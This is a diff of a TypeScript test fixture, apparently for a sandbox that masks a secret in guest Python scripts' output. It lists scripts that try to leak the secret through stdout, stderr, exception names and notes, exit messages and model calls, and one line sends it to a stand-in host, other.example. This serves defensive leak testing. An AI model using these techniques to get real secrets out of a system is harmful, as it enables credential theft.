@@ -2,51 +2,63 @@ import { secret } from './leaks.ts'
 
 /** The start of a Python script that has the secret in its own code. */
 export const knownInPython = `
-import base64, json, sys, urllib.parse, urllib.request
+import base64, sys, urllib.parse, urllib.request
 value = ''.join(map(chr, [${[...secret].map((sign) => sign.charCodeAt(0)).join(', ')}]))
 `
 
-type Way = readonly [name: string, code: string]
-
-/** The forms in which a Python script prints `value`. Only the masking of its text sees a difference. */
-export const pythonForms: readonly Way[] = [
-  ['prints it in Base64', 'print(base64.b64encode(value.encode()).decode())'],
-  ['prints it in Base64 after one letter', 'print(base64.b64encode(b"a" + value.encode()).decode())'],
-  ['prints it in URL-safe Base64', 'print(base64.urlsafe_b64encode(b"ab" + value.encode()).decode())'],
-  ['prints it in hex', 'print(value.encode().hex())'],
-  ['prints it in upper-case hex', 'print(value.encode().hex().upper())'],
-  ['prints it percent-encoded', 'print(urllib.parse.quote(value, safe=""))'],
-  ['prints it as JSON', 'print(json.dumps(json.dumps({"a": value})))'],
-  ['prints it reversed', 'print(value[::-1])'],
-  ['prints it as UTF-16 in Base64', 'print(base64.b64encode(value.encode("utf-16-le")).decode())'],
-]
-
-/** The ways in which a Python script tries to leak `value`, by name. */
-export const pythonWays: readonly Way[] = [
-  ['prints it', 'print(value)'],
-  ['prints it letter by letter', 'for letter in value:\n    print(letter)'],
-  ['prints its letters without line ends', 'for letter in value:\n    print(letter, end="", flush=True)'],
+/**
+ * Scripts in Python that try to leak `value` in the ways that a runtime or the guest's module decides, by name. Masking is
+ * the same as for scripts in JavaScript, which also try each form of a text.
+ */
+export const pythonWays: readonly (readonly [name: string, code: string])[] = [
   [
-    'writes it to stderr in pieces',
-    'for at in range(0, len(value), 5):\n    sys.stderr.write(value[at:at + 5])\n    sys.stderr.flush()',
+    'prints and returns it',
+    `
+def way(name):
+    print('way', name, flush=True)
+    print('way', name, file=sys.stderr, flush=True)
+print(value)
+way('letter by letter')
+for letter in value:
+    print(letter)
+way('without line ends')
+for letter in value:
+    print(letter, end='', flush=True)
+print()
+way('in pieces')
+for at in range(0, len(value), 5):
+    sys.stderr.write(value[at:at + 5])
+    sys.stderr.flush()
+print(file=sys.stderr)
+way('in turns')
+for at, letter in enumerate(value):
+    print(letter, file=sys.stderr if at % 2 else sys.stdout)
+way('as representation')
+print(repr({'a': [value]}))
+way('in the error of a setting')
+try:
+    settings.get(value)
+except Exception as error:
+    print(error)
+way('last')
+set_result({value: [value]})`,
   ],
   [
-    'prints its letters to stdout and stderr in turns',
-    'for at, letter in enumerate(value):\n    print(letter, file=sys.stderr if at % 2 else sys.stdout)',
+    'asks the model about it, and prints it around a pause',
+    `
+print(value[:14])
+set_result(llm.complete('What of ' + value + '?'))
+print(value[14:])
+llm.complete(base64.b64encode(value.encode()).decode())`,
   ],
-  ['prints its representation', 'print(repr({"a": [value]}))'],
-  ['returns it', 'set_result(value)'],
-  ['returns it as a key', 'set_result({value: [value]})'],
-  ['raises it', 'raise ValueError(value)'],
-  ['raises it as a cause', 'raise RuntimeError("x") from ValueError(value)'],
-  ['raises it as a note', 'error = ValueError("x")\nerror.add_note(value)\nraise error'],
-  ['raises an error named after it', 'raise type("E" + value.encode().hex(), (Exception,), {})("x")'],
+  [
+    'raises an error with it as its name, text, note and cause',
+    `
+error = type('E' + value.encode().hex(), (Exception,), {})(value)
+error.add_note(value)
+raise error from ValueError(value)`,
+  ],
   ['exits with it as the message', 'sys.exit(value)'],
-  ['asserts it', 'assert value == "", value'],
-  ['reads a setting named after it', 'settings.get(value)'],
-  ['asks the model about it', 'set_result(llm.complete("What of " + value + "?"))'],
-  ['asks the model about it in Base64', 'llm.complete(base64.b64encode(value.encode()).decode())'],
-  ['prints it in two pieces around a pause', 'print(value[:14])\nllm.complete("?")\nprint(value[14:])'],
   [
     'sends it to an undeclared host',
     'urllib.request.urlopen("https://other.example/?q=" + urllib.parse.quote(value, safe=""))',
